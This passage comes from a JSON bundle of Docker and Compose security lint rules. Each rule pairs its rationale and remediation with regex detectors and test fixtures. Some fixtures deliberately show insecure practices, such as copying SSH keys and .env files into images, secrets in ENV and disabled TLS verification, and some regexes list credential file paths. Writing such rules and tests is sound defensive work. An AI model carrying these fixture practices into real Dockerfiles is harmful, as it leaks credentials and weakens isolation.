true\\n","expect":[{"line":8,"column":9},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run --rm --sysctl net.core.somaxconn=1024 alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-sysctl-weakens-isolation.yaml"},{"id":"container-tmpfs-exec","pack":"docker","title":"tmpfs mount allows executables or setuid programs","severity":"low","subject":"container","schema":{"properties":{"tmpfs":{"items":{"not":{"pattern":{"$param":"unsafeOption"}}}}}},"message":"{{name}} mounts the tmpfs `{{value}}` with `exec` or `suid`, so an attacker who can write there (usually anyone in the container) can drop a program and run it, or keep a setuid binary. Remove the option: Docker mounts tmpfs with `noexec,nosuid,nodev` by default.","rationale":"A read-only root filesystem is only as strong as its writable exceptions. Docker mounts `--tmpfs` and Compose `tmpfs:` paths with `rw,noexec,nosuid,nodev`, so files written there cannot be executed and setuid bits are ignored; the `exec` and `suid` options undo that, giving a downloaded payload a place to run from. The OWASP cheat sheet (rule 8) recommends read-only root filesystems with `noexec,nosuid` temporary mounts.","remediation":"```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:size=64m          # noexec,nosuid,nodev by default\\n```\\n\\nIf a tool must unpack and run code at run time, give it its own volume instead and keep that\\nout of the service that handles untrusted input.","references":[{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/engine/storage/tmpfs/"}],"params":{"unsafeOption":"[:,](exec|suid)(,|$)"},"paramSchemas":{"unsafeOption":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `--tmpfs` / Compose `tmpfs:` entry (`/path:opt,opt`) that turns Docker\'s default `noexec` or `nosuid` back off."}},"tests":[{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:rw,exec,size=64m\\n      - /run\\n      - /var/cache:suid\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":30},{"line":8,"column":9}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:rw,noexec,nosuid,size=64m\\n      - /run\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --tmpfs /tmp:exec\\n    steps:\\n      - run: |\\n          docker run --rm --read-only --tmpfs /run:exec alpine:3.20 true\\n","expect":[{"line":7,"column":7},{"line":10,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run --rm --read-only --tmpfs /tmp:noexec,nosuid alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-tmpfs-exec.yaml"},{"id":"container-user-not-set","pack":"docker","title":"Compose service does not say which user it runs as","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}},"not":{"required":["build"]}},"schema":{"required":["user"]},"message":"{{name}} does not set `user:`, so it runs as whatever the image\'s author chose, which is root for most images. Set `user:` to an unprivileged UID the image supports (e.g. `user: \\"999:999\\"`), or confirm that the image already runs as a non-root user and suppress this with that reason.","rationale":"Without `user:` the container runs as the image\'s configured user, which this repository does not show and which is root unless the image\'s Dockerfile switched to another user. Many official images start as root (some drop privileges later in their entrypoint, some never do). Writing the user into the Compose file makes the choice visible in review and keeps it stable when the image changes. The CIS Docker Benchmark (4.1) and the OWASP cheat sheet (rule 2) ask that containers run as a non-root user. The rule is low severity because many images do set a user.","remediation":"Name the user explicitly. Most images document the UID they support:\\n\\n```yaml\\nservices:\\n  cache:\\n    image: redis:7.4\\n    user: \\"999:999\\"\\n  grafana:\\n    image: grafana/grafana:11.2.0\\n    user: \\"472\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#user"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  cache:\\n    image: redis:7.4\\n  web:\\n    image: nginx:1.27\\n    user: \\"101:101\\"\\n  api:\\n    build: ./api\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":8}]},{"file":"compose.yaml","content":"x-user: &user\\n  user: \\"10001\\"\\nservices:\\n  worker:\\n    <<: *user\\n    image: ghcr.io/example/worker:1.4.2\\n  cache:\\n    image: redis:7.4\\n    user: \\"999:999\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    services:\\n      cache:\\n        image: redis:7.4\\n    steps:\\n      - run: docker run --rm alpine:3.20 id\\n","expect":[]}],"source":"policies/docker/container-user-not-set.yaml"},{"id":"dockerfile-add-url-without-checksum","pack":"docker","title":"ADD downloads a remote file without verifying its checksum","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"ADD"},"args":{"prefixItems":[{"pattern":"^https?://"}]},"flags":{"not":{"required":["checksum"]}}}}}}}},"message":"This ADD downloads a file into stage {{name}} without `--checksum`, so whatever the server (or anyone in between) returns goes into the image unverified. Add `--checksum=sha256:<digest>` (Dockerfile syntax 1.6 or later), or download and verify it in a RUN.","rationale":"`ADD <url>` fetches the file at build time and copies it into the image as is. A compromised server, a moved release asset or a man-in-the-middle on a plain `http://` URL changes the image without any change in the repository, and the build cannot notice. `ADD --checksum` makes BuildKit verify the content against a known digest and fail the build otherwise. The CIS Docker Benchmark asks to prefer COPY over ADD (4.9) and to install only verified packages (4.11).","remediation":"Pin the download to its digest:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nADD --checksum=sha256:<64 hex digits of the release\'s published SHA-256> \\\\\\n    https://github.com/example/tool/releases/download/v1.2.0/tool-linux-amd64.tar.gz /tmp/\\n```\\n\\nFor a Git repository, ADD a tag and commit: `ADD https://github.com/example/repo.git?ref=v1.2.0&checksum=<commit> /src`.","references":[{"framework":"cis-docker","id":"1.6.0:4.9"},{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#add---checksum"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM alpine:3.20\\nADD https://example.com/tool.tar.gz /tmp/\\nADD --chown=10001 http://example.com/config.json /etc/app/config.json\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":42},{"line":3,"column":1}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM alpine:3.20\\nADD --checksum=sha256:24454f830cdd571e2c4ad5b15b2e8a7a7b07e5d6b2b9c2de1c4b9c3a5f2e8a1b https://example.com/tool.tar.gz /tmp/\\nADD rootfs.tar.gz /\\nCOPY app /app\\n","expect":[]}],"source":"policies/docker/dockerfile-add-url-without-checksum.yaml"},{"id":"dockerfile-copies-credential-file","pack":"docker","title":"Credential file copied into the image","severity":"high","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["COPY","ADD"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"credentialFile"}}}}}}}}}},"message":"Stage {{name}} copies `{{value}}`, a file that holds credentials, into the image, where every layer is readable by anyone who can pull it, even if a later step deletes the file. Keep it out of the image: mount it for the one RUN that needs it (`RUN --mount=type=secret`) and list it in `.dockerignore`.","rationale":"Files copied into an image stay in its layers for good: deleting them in a later instruction only hides them, and `docker save` or any layer-extraction tool recovers them. A `.env` file, an SSH key, an `.npmrc` with an auth token or a cloud credentials file in an image hands those credentials to everyone with pull access, and images are often pushed to registries far less protected than the secrets they contain. The CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets never be stored in images; BuildKit secret and SSH mounts give a build step access without writing anything to a layer.","remediation":"Mount the credential only while the step that needs it runs, and keep it out of the context:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci --omit=dev\\nRUN --mount=type=ssh git clone git@github.com:example/private.git\\n```\\n\\n```text\\n# .dockerignore\\n.env\\n*.key\\nid_*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/building/secrets/"}],"params":{"credentialFile":"(^|/)(\\\\.env(\\\\.(local|dev|development|prod|production|staging|test))?|id_(rsa|dsa|ecdsa|ed25519)|\\\\.pypirc|\\\\.netrc|\\\\.git-credentials|\\\\.htpasswd|credentials(\\\\.json)?)$|(^|/)[^/]+\\\\.(key|p12|pfx|jks|keystore)$|(privkey|[-_.]key)\\\\.pem$|(^|/)[^/]*service-account[^/]*\\\\.json$|(^|/)\\\\.(aws|ssh|gnupg)(/|$)|(^|/)\\\\.docker/config\\\\.json$|(^|/)\\\\.kube/config$"},"paramSchemas":{"credentialFile":{"schema":{"type":"string","format":"regex","minLength":1},"description":"File names that hold credentials: dotenv files (not .env.example), SSH private keys, registry and package-index credentials, cloud credentials, private keys and key stores. A project\'s `.npmrc` usually holds only the registry and a `${NPM_TOKEN}` reference, so it is left out; a `.pem` counts only when named as a key (most are public certificates)."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR /app\\nCOPY package.json package-lock.json ./\\nCOPY .env /app/.env\\nCOPY deploy/id_ed25519 /root/.ssh/id_ed25519\\nADD certs/server.key /etc/ssl/private/\\n","expect":[{"line":4,"column":6,"endLine":4,"endColumn":10},{"line":4,"column":11},{"line":5,"column":6},{"line":5,"column":24},{"line":6,"column":5}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR /app\\nCOPY package.json package-lock.json .npmrc ./\\nCOPY .env.example /app/.env.example\\nCOPY certs/ca.pem /usr/local/share/ca-certificates/ca.crt\\nCOPY .docker/php/php.ini /usr/local/etc/php/php.ini\\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci\\nCOPY . .\\n","expect":[]}],"source":"policies/docker/dockerfile-copies-credential-file.yaml"},{"id":"dockerfile-env-disables-tls-verification","pack":"docker","title":"Environment variable turns off TLS verification in the build or the image","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ENV","ARG","RUN"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"disablingVariable"}}}}}}}}}},"message":"`{{value}}` turns off TLS certificate verification for every tool that reads it in stage {{name}} (and, with ENV, in every container started from the image), so a spoofed server can feed it code or data. Remove it and install the CA certificate the tools need instead.","rationale":"`NODE_TLS_REJECT_UNAUTHORIZED=0`, `GIT_SSL_NO_VERIFY`, `PYTHONHTTPSVERIFY=0`, `NPM_CONFIG_STRICT_SSL=false` and `PIP_TRUSTED_HOST` disable certificate checks for every connection the program makes. In a RUN or ARG they open the build to man-in-the-middle package substitution; in an ENV they are baked into the image and silently weaken the application at run time too. The CIS Docker Benchmark (4.11) asks that only verified packages be installed.","remediation":"Trust the certificate instead of turning verification off:\\n\\n```dockerfile\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/corp-root-ca.crt\\nRUN update-ca-certificates\\nENV NODE_EXTRA_CA_CERTS=/usr/local/share/ca-certificates/corp-root-ca.crt\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#env"}],"params":{"disablingVariable":"^(NODE_TLS_REJECT_UNAUTHORIZED=0|NODE_TLS_REJECT_UNAUTHORIZED|GIT_SSL_NO_VERIFY(=.*)?|PYTHONHTTPSVERIFY=0|PYTHONHTTPSVERIFY|(NPM_CONFIG_STRICT_SSL|npm_config_strict_ssl)=false|PIP_TRUSTED_HOST(=.*)?)$"},"paramSchemas":{"disablingVariable":{"schema":{"type":"string","format":"regex","minLength":1},"description":"`NAME=value` words (ENV, ARG, or an assignment in a RUN) that switch verification off for Node.js, Git, Python, npm and pip; the bare names cover the legacy `ENV NAME value` form."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nENV NODE_ENV=production NODE_TLS_REJECT_UNAUTHORIZED=0\\nENV GIT_SSL_NO_VERIFY 1\\nRUN PIP_TRUSTED_HOST=pypi.example.com pip install internal-lib==1.0\\n","expect":[{"line":2,"column":25,"endLine":2,"endColumn":55},{"line":3,"column":5},{"line":4,"column":5}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/\\nRUN update-ca-certificates\\nENV NODE_EXTRA_CA_CERTS=/usr/local/share/ca-certificates/corp-root-ca.crt NODE_TLS_REJECT_UNAUTHORIZED=1\\n","expect":[]}],"source":"policies/docker/dockerfile-env-disables-tls-verification.yaml"},{"id":"dockerfile-final-stage-root","pack":"docker","title":"Image\'s final stage runs as root","severity":"medium","subject":"dockerfile.stage","when":{"properties":{"isFinal":{"const":true}}},"schema":{"required":["user"],"properties":{"user":{"not":{"pattern":{"$param":"rootUser"}}}}},"message":"The final stage ({{name}}) runs the image\'s process as root: it has no USER instruction, or its USER is root or 0, so whoever exploits the application is root inside the container. Create an unprivileged user and add `USER <name or uid>` at the end of the final stage.","rationale":"A container process that runs as root keeps every capability Docker grants by default, can rewrite the whole image filesystem, and is root on the host if it escapes through a kernel or runtime vulnerability or a careless mount. Most applications need no root at all at run time. Without a USER instruction an image runs as its base image\'s user, which is root for most official base images; USER is inherited from a stage named in FROM, so a final stage built on a non-root stage passes. The CIS Docker Benchmark and the OWASP cheat sheet both ask that images define a non-root user. Severity is medium: some base images already set a non-root user that this Dockerfile cannot show, and such a finding can be suppressed with that reason.","remediation":"Create a user (a fixed UID keeps file ownership predictable) and switch to it after the steps\\nthat need root:\\n\\n```dockerfile\\nFROM node:22-bookworm-slim\\nWORKDIR /app\\nCOPY --chown=10001:10001 . .\\nRUN groupadd --system --gid 10001 app \\\\\\n && useradd --system --uid 10001 --gid app --no-log-init app\\nUSER 10001:10001\\nCMD [\\"node\\", \\"server.js\\"]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{"rootUser":"^\\\\s*(root|0+)(:.*|\\\\s*)$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"The user part names root (by name or UID 0), whatever group follows."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-bookworm-slim\\nWORKDIR /app\\nCOPY . .\\nCMD [\\"node\\", \\"server.js\\"]\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":27}]},{"file":"Dockerfile","content":"FROM golang:1.23 AS build\\nUSER 10001\\nRUN go build -o /out/app ./...\\n\\nFROM build AS runtime\\nUSER root\\nRUN apt-get update && apt-get install -y ca-certificates\\nUSER 0:0\\nENTRYPOINT [\\"/out/app\\"]\\n","expect":[{"line":8,"column":1,"endLine":8,"endColumn":9}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nRUN useradd --uid 10001 app\\nUSER root:app\\n\\nFROM base\\nCOPY app.py /app.py\\nCMD [\\"python\\", \\"/app.py\\"]\\n","expect":[{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nRUN useradd --uid 10001 app\\nUSER app\\n\\nFROM base AS final\\nCOPY --chown=app app.py /app.py\\nCMD [\\"python\\", \\"/app.py\\"]\\n","expect":[]},{"file":"Dockerfile","content":"ARG APP_UID=10001\\nFROM rust:1.82 AS build\\nRUN cargo build --release\\n\\nFROM gcr.io/distroless/cc-debian12:nonroot\\nCOPY --from=build /target/release/app /app\\nUSER ${APP_UID}\\nENTRYPOINT [\\"/app\\"]\\n","expect":[]},{"file":"Dockerfile","content":"FROM alpine:3.20 AS build\\nRUN echo build\\n\\nFROM alpine:3.20\\nRUN adduser -D -u 10001 app\\nUSER app\\nRUN echo done\\nUSER root\\n","expect":[{"line":8,"column":1}]}],"source":"policies/docker/dockerfile-final-stage-root.yaml"},{"id":"dockerfile-no-healthcheck","pack":"docker","title":"Image has no HEALTHCHECK","severity":"low","subject":"dockerfile.stage","when":{"properties":{"isFinal":{"const":true}}},"schema":{"required":["healthcheck"],"properties":{"healthcheck":{"properties":{"disable":{"const":false}}}}},"message":"The final stage ({{name}}) defines no working HEALTHCHECK (none is set, or `HEALTHCHECK NONE` switches the base image\'s off), so Docker cannot tell a hung container from a healthy one. Add one that probes the service, e.g. `HEALTHCHECK CMD [\\"/app/healthcheck\\"]`.","rationale":"A HEALTHCHECK in the image travels with it to every place it runs: Docker marks the container unhealthy when the probe fails, Compose can wait for `service_healthy`, and Swarm replaces the task. Without one, a deadlocked or degraded service looks as \\"running\\" as a healthy one. The CIS Docker Benchmark (4.6) asks that images carry a HEALTHCHECK instruction. Images that only ever run under Kubernetes (which ignores it and uses probes instead) may suppress this with that reason. A Compose `healthcheck:` on the service also satisfies container-no-healthcheck.","remediation":"Add a probe to the final stage. For an image without a shell, ship a small probe binary:\\n\\n```dockerfile\\nFROM gcr.io/distroless/static-debian12:nonroot\\nCOPY --from=build /out/app /out/healthcheck /\\nHEALTHCHECK --interval=30s --timeout=3s --retries=3 CMD [\\"/healthcheck\\"]\\nENTRYPOINT [\\"/app\\"]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.6"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#healthcheck"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM golang:1.23 AS build\\nRUN go build -o /out/app ./...\\n\\nFROM gcr.io/distroless/static-debian12:nonroot\\nCOPY --from=build /out/app /app\\nENTRYPOINT [\\"/app\\"]\\n","expect":[{"line":4,"column":6,"endLine":4,"endColumn":47}]},{"file":"Dockerfile","content":"FROM nginx:1.27 AS base\\nHEALTHCHECK CMD curl -f http://localhost/ || exit 1\\n\\nFROM base\\nHEALTHCHECK NONE\\n","expect":[{"line":5,"column":1,"endLine":5,"endColumn":17}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nHEALTHCHECK --interval=30s CMD [\\"python\\", \\"-c\\", \\"import urllib.request as u; u.urlopen(\'http://localhost:8000/health\')\\"]\\n\\nFROM base\\nCOPY app.py /app/app.py\\nCMD [\\"python\\", \\"/app/app.py\\"]\\n","expect":[]}],"source":"policies/docker/dockerfile-no-healthcheck.yaml"},{"id":"dockerfile-run-insecure-options","pack":"docker","title":"RUN step asks for an insecure sandbox or the host network","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"properties":{"flags":{"properties":{"security":{"items":{"not":{"const":"insecure"}}},"network":{"items":{"not":{"const":"host"}}}}}}}}}},"message":"This RUN in stage {{name}} lifts the build sandbox (`{{value}}`): `--security=insecure` runs the step like a privileged container, and `--network=host` lets it reach everything the build host can. Remove the flag; move work that truly needs it out of the image build.","rationale":"BuildKit runs every RUN step in a sandbox with its own network and the default seccomp and AppArmor confinement. `RUN --security=insecure` (entitlement `security.insecure`) runs the step with full privileges, like `--privileged`, so a compromised dependency installed in that step can take over the builder, which on CI often holds credentials and caches for other builds. `RUN --network=host` (entitlement `network.host`) gives the step the builder host\'s network, including services bound to its localhost and cloud metadata endpoints. Both need an explicit entitlement from whoever runs the build, which is exactly what a reviewer should see asked for.","remediation":"Remove the flag. Steps that need network access use the default sandboxed network; steps that\\nneed privileges (loop devices, mounts) belong in a CI job step, not in the Dockerfile:\\n\\n```dockerfile\\nRUN --mount=type=cache,target=/root/.cache/go-build go build -o /out/app ./...\\n```","references":[{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#run---security"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#run---network"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1-labs\\nFROM alpine:3.20\\nRUN --security=insecure mount -t tmpfs none /mnt\\nRUN --network=host wget -qO- http://localhost:8080/assets.tar | tar -x\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":24},{"line":4,"column":5}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM alpine:3.20\\nRUN --network=none ./offline-tests.sh\\nRUN --security=sandbox --mount=type=cache,target=/var/cache/apk apk add git\\n","expect":[]}],"source":"policies/docker/dockerfile-run-insecure-options.yaml"},{"id":"dockerfile-secret-in-arg-or-env","pack":"docker","title":"Secret passed through ARG or ENV","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ARG","ENV"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"secretName"}}}}}}}}}},"message":"Stage {{name}} passes a secret-looking variable through ARG or ENV; its value stays readable in the image\'s history and metadata (and, with ENV, in every container), for anyone who can pull the image. Use a build secret instead: `RUN --mount=type=secret,id=\u2026,env=\u2026`.","rationale":"Build arguments are recorded in the image\'s build history (and in provenance attestations), and ENV values are part of the image configuration: `docker history` and `docker inspect` show them to everyone who can pull the image, and multi-stage builds do not help when the variable is set in the final stage. BuildKit\'s SecretsUsedInArgOrEnv check, the CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets be handed to the build with secret mounts, which leave nothing behind in the image.","remediation":"Mount the secret for the one RUN that needs it:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN \\\\\\n    npm ci --omit=dev\\n```\\n\\nand pass it at build time with `docker build --secret id=npm_token,env=NPM_TOKEN .` (or the\\n`secrets:` input of docker/build-push-action).","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"docker-build-check","id":"SecretsUsedInArgOrEnv"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/secrets-used-in-arg-or-env/"},{"framework":"url","url":"https://docs.docker.com/build/building/secrets/"}],"params":{"secretName":"^(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?(?<!(?:^|_)(?:PUBLIC|public|Public)(?:_[A-Za-z0-9_]*)?)(?<!_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type))(?:=|$)"},"paramSchemas":{"secretName":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A variable name with a secret-looking token (BuildKit\'s SecretsUsedInArgOrEnv list: apikey, auth, credential(s), key, password, pword, passwd, secret, token, plus pass) between underscores or at either end, optionally followed by `=value`. PUBLIC names and names that point at a file, a place or an account (`_FILE`, `_PATH`, `_URL`, `_ID`, \u2026) are left out."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nARG NPM_TOKEN\\nENV NODE_ENV=production API_KEY=sk_live_123\\nARG AWS_SECRET_ACCESS_KEY\\nRUN npm ci\\n","expect":[{"line":2,"column":5,"endLine":2,"endColumn":14},{"line":3,"column":25},{"line":4,"column":5}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nARG NODE_VERSION=22\\nENV PUBLIC_KEY_URL=https://keys.example.com/pub.asc MONKEY=banana\\nENV POSTGRES_PASSWORD_FILE=/run/secrets/db_password\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN npm ci\\n","expect":[]}],"source":"policies/docker/dockerfile-secret-in-arg-or-env.yaml"},{"id":"dockerfile-ssh-server","pack":"docker","title":"Image installs, runs or exposes an SSH server","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"expose":{"items":{"not":{"pattern":{"$param":"sshPort"}}}},"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["RUN","CMD","ENTRYPOINT"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"sshServer"}}}}}}}}}},"message":"Stage {{name}} sets up an SSH server (`{{value}}`), which adds a network login, keys or passwords to manage, and a long-running root daemon to every container of this image. Remove it and use `docker exec` (or `kubectl exec`) to get a shell in a running container.","rationale":"An SSH daemon in a container is a second way in that bypasses Docker\'s access control: it needs host keys and credentials baked into the image or managed per container, it usually runs as root, and it is one more service to patch. Docker already provides an authenticated way to run a shell in a container. The CIS Docker Benchmark (5.7) asks that sshd not run within containers.","remediation":"Drop the SSH server, the port and the keys, and get a shell through Docker instead:\\n\\n```sh\\ndocker exec -it <container> sh\\ndocker cp <container>:/var/log/app.log .\\n```\\n\\nFor files the service produces, use a volume. If remote access is a product feature (a Git\\nserver, a bastion), run it as a dedicated, hardened service rather than inside an application\\nimage.","references":[{"framework":"cis-docker","id":"1.6.0:5.7"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/exec/"}],"params":{"sshServer":"^(openssh-server|openssh|dropbear|(/usr/sbin/)?sshd)$","sshPort":"^22(/tcp)?$"},"paramSchemas":{"sshServer":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Package names and programs of SSH servers, as words of RUN, CMD and ENTRYPOINT."},"sshPort":{"schema":{"type":"string","format":"regex","minLength":1},"description":"An EXPOSE entry that publishes the SSH port."}},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN apt-get update && apt-get install -y --no-install-recommends openssh-server \\\\\\n && rm -rf /var/lib/apt/lists/*\\nEXPOSE 22 8080\\nCMD [\\"/usr/sbin/sshd\\", \\"-D\\"]\\n","expect":[{"line":2,"column":66,"endLine":2,"endColumn":80},{"line":4,"column":8,"endLine":4,"endColumn":10},{"line":5,"column":6}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache openssh-client git\\nEXPOSE 8080/tcp 2222\\nCMD [\\"ssh\\", \\"-V\\"]\\n","expect":[]}],"source":"policies/docker/dockerfile-ssh-server.yaml"},{"id":"image-from-variable","pack":"docker","title":"Image reference cannot be verified (built from an unresolved variable)","severity":"info","subject":"image","when":{"not":{"properties":{"origin":{"const":"compose-service"}}}},"schema":{"properties":{"isVariable":{"const":false}}},"message":"`{{subject.ref}}` is filled in from a variable at run time, so no rule here can tell which image runs, whether it is pinned or where it comes from. Give the variable a pinned default (e.g. `${IMAGE:-ghcr.io/example/app:1.4.2@sha256:\u2026}`, `ARG BASE=\u2026`), or write the reference out.","rationale":"Tag, digest and registry rules judge the reference as written. When it is a variable without a default (a Dockerfile `ARG` without a value, a workflow `${{ inputs.image }}` or `$IMAGE` in a script), whoever sets the variable chooses the image, and a reviewer of this file cannot see it. That is sometimes the point (a matrix over database versions), so the rule is informational: it marks the places the other image rules could not check.","remediation":"Give the variable a default that satisfies the image rules, so the file says what runs unless\\nsomeone deliberately overrides it:\\n\\n```dockerfile\\nARG BASE_IMAGE=python:3.12-slim@sha256:<digest>\\nFROM ${BASE_IMAGE}\\n```\\n\\n```yaml\\nservices:\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app:1.4.2}\\n```","references":[{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#understand-how-arg-and-from-interact"},{"framework":"url","url":"https://docs.docker.com/compose/how-tos/environment-variables/variable-interpolation/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"ARG BASE_IMAGE\\nFROM ${BASE_IMAGE}\\nRUN echo hi\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":19}]},{"file":"Dockerfile","content":"ARG BASE_IMAGE=python:3.12-slim\\nFROM ${BASE_IMAGE}\\nRUN echo hi\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: ${{ inputs.image }}\\n    steps:\\n      - run: docker run --rm \\"$TOOL_IMAGE\\" --version\\n","expect":[{"line":5,"column":5},{"line":7,"column":14}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - uses: docker://alpine:3.20\\n      - run: docker run --rm ghcr.io/example/tool:1.2.0 --version\\n","expect":[]}],"source":"policies/docker/image-from-variable.yaml"},{"id":"image-latest-tag","pack":"docker","title":"Image uses the latest tag or no tag","severity":"medium","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"properties":{"isLatest":{"const":false}}},"message":"`{{subject.ref}}` has no tag or the `latest` tag, so every pull may bring a different image and nobody can tell from this file which one ran. Name a version tag, such as `nginx:1.27`, and preferably its digest too.","rationale":"`latest` is only a default name, not a promise of the newest or of any stable version, and a reference without a tag means `latest`. Builds and deployments that use it change behaviour without a change in the repository, cannot be reproduced or rolled back, and may silently pick up a broken or compromised image. Docker\'s build best practices ask to pin base image versions, and the CIS Docker Benchmark asks that the image version in use be known and kept current.","remediation":"Write the version you have tested; add the digest to make it immutable (and let Dependabot or\\nRenovate keep both current):\\n\\n```dockerfile\\nFROM node:22.11-bookworm-slim\\n```\\n\\n```yaml\\nservices:\\n  cache:\\n    image: redis:7.4.1\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.28"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#pin-base-image-versions"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx\\n  cache:\\n    image: \\"redis:latest\\"\\n  db:\\n    image: postgres:16\\n  app:\\n    image: 